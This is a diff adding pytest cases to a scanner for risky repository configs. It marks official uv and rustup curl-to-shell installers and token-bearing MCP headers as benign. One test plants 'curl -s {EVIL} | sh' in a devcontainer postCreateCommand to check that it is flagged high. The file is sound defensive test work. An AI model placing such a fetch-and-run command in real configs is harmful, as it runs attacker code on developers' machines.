@@ -1130,3 +1130,100 @@ def test_yaml_aliases_are_not_walked_exponentially(tmp_path: Path) -> None:
     lines.append("models: [*a8]")
     _write(tmp_path, {".continue/config.yaml": "\n".join(lines) + "\n"})
     assert not [f for f in scan_path(tmp_path) if RANK[f.severity] >= RANK["medium"]]
+
+
+#: look-alikes of the classes added here that well-kept repositories commit; the first two were high before (a dev
+#: container installing uv or rustup with its official script is how dev containers install tools)
+BENIGN_6: dict[str, dict[str, Any]] = {
+    "dc-postcreate-uv": {
+        ".devcontainer/devcontainer.json": j(
+            {"image": "debian", "postCreateCommand": "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync"}
+        )
+    },
+    "dc-oncreate-rustup": {
+        ".devcontainer/devcontainer.json": j(
+            {
+                "image": "debian",
+                "onCreateCommand": "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+            }
+        )
+    },
+    "mcp-aws-knowledge": {
+        ".mcp.json": j(
+            {
+                "mcpServers": {
+                    "aws": {
+                        "type": "http",
+                        "url": "https://knowledge-mcp.global.api.aws",
+                        "headers": {"X-Key": "${AWS_SECRET_ACCESS_KEY}"},
+                    }
+                }
+            }
+        )
+    },
+    "mcp-hf": {
+        ".mcp.json": j(
+            {
+                "mcpServers": {
+                    "hf": {
+                        "type": "http",
+                        "url": "https://hf.co/mcp",
+                        "headers": {"Authorization": "Bearer ${HF_TOKEN}"},
+                    }
+                }
+            }
+        )
+    },
+    "mcp-notion-proxy": srv(
+        "npx",
+        ["-y", "mcp-remote@0.1.18", "https://mcp.notion.com/mcp", "--header", "Authorization: Bearer ${NOTION_TOKEN}"],
+    ),
+    "opencode-git-npm": {
+        "opencode.json": j({"permission": {"bash": {"git *": "allow", "npm *": "allow", "*": "ask"}}})
+    },
+    "zed-prettier": {
+        ".zed/settings.json": j(
+            {"formatter": {"external": {"command": "prettier", "arguments": ["--stdin-filepath", "{buffer_path}"]}}}
+        )
+    },
+    "aider-local": {
+        ".aider.conf.yml": "openai-api-base: http://localhost:11434/v1\nset-env: [OLLAMA_API_BASE=http://127.0.0.1:11434]\n"
+        "read: [~/.aider/conventions.md]\n"
+    },
+    "extensions-many": {
+        ".vscode/extensions.json": j(
+            {
+                "recommendations": [
+                    "ms-vscode.makefile-tools",
+                    "ms-vscode.cmake-tools",
+                    "twxs.cmake",
+                    "llvm-vs-code-extensions.vscode-clangd",
+                    "tamasfe.even-better-toml",
+                    "davidanson.vscode-markdownlint",
+                    "editorconfig.editorconfig",
+                    "ms-python.pylint",
+                    "github.vscode-github-actions",
+                    "vitest.explorer",
+                    "vadimcn.vscode-lldb",
+                    "ms-python.vscode-python-envs",
+                    "biomejs.biome",
+                    "ms-playwright.playwright",
+                    "timonwong.shellcheck",
+                    "redhat.ansible",
+                ]
+            }
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("case", sorted(BENIGN_6))
+def test_common_setups_stay_below_medium(tmp_path: Path, case: str) -> None:
+    _write(tmp_path, BENIGN_6[case])
+    assert not [(f.rule, f.severity, f.message) for f in scan_path(tmp_path) if RANK[f.severity] >= RANK["medium"]]
+
+
+def test_an_installer_beside_a_payload_is_still_high(tmp_path: Path) -> None:
+    command = f"curl -LsSf https://astral.sh/uv/install.sh | sh && curl -s {EVIL} | sh"
+    _write(tmp_path, {".devcontainer/devcontainer.json": j({"image": "debian", "postCreateCommand": command})})
+    assert {f.severity for f in scan_path(tmp_path) if f.rule == "OWS-DC-002"} == {"high"}
